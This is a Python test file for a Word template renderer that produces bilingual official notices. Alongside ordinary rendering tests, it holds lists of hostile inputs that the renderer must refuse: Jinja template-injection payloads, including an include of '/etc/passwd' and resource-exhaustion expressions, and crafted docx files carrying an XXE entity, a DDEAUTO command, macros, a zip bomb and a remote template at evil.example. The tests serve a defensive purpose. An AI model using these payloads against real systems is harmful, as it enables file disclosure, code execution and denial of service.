"""Templates: ours come from their sources; an office's own goes before ours; a hostile one runs nothing and is told."""

import zipfile
from collections.abc import Callable
from datetime import date
from io import BytesIO
from pathlib import Path
from typing import Any

import docx
import pytest
from sqlmodel import select

from models.documents.kinds import kinds_of
from models.record.database import reading, writing
from models.record.documents import blob
from models.record.tables import Document
from models.regulations import PROCEDURES
from notifications.documents.making import made, sources
from notifications.documents.packing import packed, parts_of
from notifications.documents.rendering import LARGEST_OPENED, TEMPLATES, BadTemplate, digest_of, rendered
from notifications.documents.writing import write
from tests.documents.office import own_templates
from tests.documents.test_numbers import AT, notices

DAY = date(2026, 12, 4)
CONTENT: dict[str, Any] = {
    "document": {"title": "Уведомление", "number": "1", "day": "4 декабря 2026 года", "clause": "7"},
    "case": {"number": "KRG-rotation-2026-001"}, "person": {"name": "Үлгінов Айдос"},
    "listed": [{"n": "1", "name": "А & <Б>"}, {"n": "2", "name": "{{ person.name }}"}],
    "nothing": None,
}  # fmt: skip


def render(*lines: str, content: dict[str, Any] = CONTENT) -> str:
    return told(rendered(made(lines, "ru"), content, name="x.docx", day=DAY))


def told(file: bytes) -> str:
    paper = docx.Document(BytesIO(file))
    cells = [c.text for t in paper.tables for r in t.rows for c in r.cells]
    return "\n".join([p.text for p in paper.paragraphs] + cells)


def test_our_templates_are_what_their_sources_make() -> None:
    made_now = {f"{p}/{kind}.{language}.docx": made(lines, language) for p, kind, language, lines in sources()}
    kept = {str(f.relative_to(TEMPLATES)): f.read_bytes() for f in TEMPLATES.glob("*/*.docx")}
    assert made_now.keys() == kept.keys()
    # By parts: another zlib packs the same parts otherwise.
    assert [name for name, file in kept.items() if parts_of(file) != parts_of(made_now[name])] == []


def test_every_kind_has_a_template_in_both_languages_and_no_template_is_for_nothing() -> None:
    wanted = {f"{p}/{code}.{lang}.docx" for p in PROCEDURES for code in kinds_of(p).by_code for lang in ("ru", "kk")}
    assert {str(f.relative_to(TEMPLATES)) for f in TEMPLATES.glob("*/*.docx")} == wanted


def test_every_document_a_process_owes_has_a_kind() -> None:
    from models.regulations import procedure

    for code in PROCEDURES:
        found = procedure(code)
        owed = {d for p in (found.cycle, found.case) for n in p.nodes for o in n.outcomes.values() for d in o.documents}
        assert owed - set(kinds_of(code).by_code) == set(), code


def test_lists_conditions_and_marks_of_xml_come_out_as_text() -> None:
    text = render(
        "@if person.name", "есть {{ person.name|upper }}", "@else", "нет", "@end",
        "@table 2 № | 5 Кто", "@rows listed as r", "| {{ loop.index }} | {{ r.name }}",
    )  # fmt: skip
    assert "есть ҮЛГІНОВ АЙДОС" in text
    assert "нет" not in text
    assert "А & <Б>" in text
    # What a person wrote is no template.
    assert "{{ person.name }}" in text


HOSTILE = {
    "python's classes": "{{ ''.__class__.__mro__ }}",
    "classes of what is said": "{{ document.__class__ }}",
    "a call": "{{ document.title.upper() }}",
    "a call of a filter's result": "{{ (document.title|upper)() }}",
    "format": "{{ '{0.__class__}'.format(document) }}",
    "an attribute by filter": "{{ document|attr('__class__') }}",
    "an item by underscores": "{{ document.title['__class__'] }}",
    "a method of a dict": "{{ document.items }}",
    "memory": "{{ 'a' * 1000000000 }}",
    "a power": "{{ 9 ** 9 ** 9 }}",
    "a list without end": "{% for i in range(10) %}x{% endfor %}",
    "setting": "{% set a = 1 %}{{ a }}",
    "doubling": "{{ document.title ~ document.title }}",
    "a macro": "{% macro m() %}x{% endmacro %}{{ m() }}",
    "another file": "{% include '/etc/passwd' %}",
    "an import": "{% import 'os' as os %}",
    "lists in lists": "{% for a in listed %}{% for b in listed %}{% for c in listed %}{% for d in listed %}x"
    "{% endfor %}{% endfor %}{% endfor %}{% endfor %}",
    "a name that is not there": "{{ salary }}",
    "a field that is not there": "{{ person.salary }}",
    "none": "{{ nothing }}",
    "a tag left open": "{% if person.name %}",
    "an unknown filter": "{{ document.title|pprint }}",
    "globals": "{{ cycler }}{{ lipsum }}{{ self }}",
}


@pytest.mark.parametrize("what", HOSTILE)
def test_a_template_that_wants_more_than_values_is_refused(what: str) -> None:
    with pytest.raises(BadTemplate) as refused:
        render(HOSTILE[what])
    assert refused.value.template == "x.docx"
    assert "Traceback" not in refused.value.problem


def with_part(name: str, data: bytes) -> Callable[[], bytes]:
    return lambda: packed({**parts_of(made(["x"], "ru")), name: data})


def in_document(old: bytes, new: bytes) -> Callable[[], bytes]:
    def changed() -> bytes:
        parts = parts_of(made(["x"], "ru"))
        assert old in parts["word/document.xml"]
        return packed(parts | {"word/document.xml": parts["word/document.xml"].replace(old, new)})

    return changed


RELS = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
    b' Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>'
)
FILES: dict[str, tuple[Callable[[], bytes], str]] = {
    "no archive": (lambda: b"PK\x03\x04 and then nothing", "is not a docx file"),
    "empty": (lambda: b"", "is not a docx file"),
    "another archive": (lambda: packed({"a.txt": b"x"}), "can't be read"),
    "cut off": (lambda: made(["x"], "ru")[:2000], "is not a docx file"),
    "broken xml": (in_document(b"</w:body>", b"</w:bodi>"), "can't be read"),
    "macros": (with_part("word/vbaProject.bin", b"x"), "no macros"),
    "a template from outside": (with_part("word/_rels/settings.xml.rels", RELS), "from outside"),
    "an entity": (in_document(b"<w:document", b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document'),
                  "document type"),
    "a command": (in_document(b"<w:body>", b"<w:body><w:p><w:r><w:instrText>DDEAUTO c:\\\\x</w:instrText></w:r></w:p>"),
                  "fetches or runs"),
    "a bomb": (with_part("word/big.xml", b"0" * (LARGEST_OPENED + 1)), "holds more than"),
}  # fmt: skip


@pytest.mark.parametrize("what", FILES)
def test_a_file_that_is_no_sound_template_is_refused(what: str) -> None:
    make, why = FILES[what]
    with pytest.raises(BadTemplate, match=why):
        rendered(make(), CONTENT, name="x.docx", day=DAY)


def test_an_offices_own_template_goes_before_ours_and_old_papers_keep_theirs(
    sqlite_record: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    first, second = notices(sqlite_record, 2)
    ours = (TEMPLATES / "rotation" / "notice.ru.docx").read_bytes()
    with writing(sqlite_record) as session:
        write(session, first, at=AT)
    # As in Word: a paragraph more, and a word made bold in the middle of a tag's paragraph.
    edited = docx.Document(BytesIO(ours))
    edited.add_paragraph().add_run("Телефон кадровой службы: {{ person.").font.bold = True
    edited.paragraphs[-1].add_run("number }}")
    own = tmp_path / "rotation" / "notice.ru.docx"
    own.parent.mkdir()
    edited.save(str(own))
    with own_templates(tmp_path), writing(sqlite_record) as session:
        write(session, second, at=AT)
    with reading(sqlite_record) as session:
        asked = select(Document).where(Document.kind == "notice").order_by(Document.seq)  # type: ignore[arg-type]
        before, after = session.exec(asked).all()
        assert "Телефон кадровой службы: P-2" in told(blob(session, after.sha256))
        assert "Телефон" not in told(blob(session, before.sha256))
        assert (before.template_sha256, after.template_sha256) == (digest_of(ours), digest_of(own.read_bytes()))
        # Kept with the template it was made from, whatever becomes of the office's folder.
        assert blob(session, after.template_sha256) == own.read_bytes()


def test_the_same_content_makes_the_same_bytes_without_a_clock() -> None:
    source = (TEMPLATES / "rotation" / "notice.ru.docx").read_bytes()
    with pytest.raises(BadTemplate):
        rendered(source, CONTENT, name="x.docx", day=DAY)
    file = rendered(made(["{{ person.name }}"], "ru"), CONTENT, name="x.docx", day=DAY)
    assert file == rendered(made(["{{ person.name }}"], "ru"), CONTENT, name="x.docx", day=DAY)
    with zipfile.ZipFile(BytesIO(file)) as archive:
        assert {info.date_time for info in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    about = docx.Document(BytesIO(file)).core_properties
    assert about.created is not None
    assert (about.created.date(), about.title, about.author) == (DAY, "Уведомление", "Merzim")
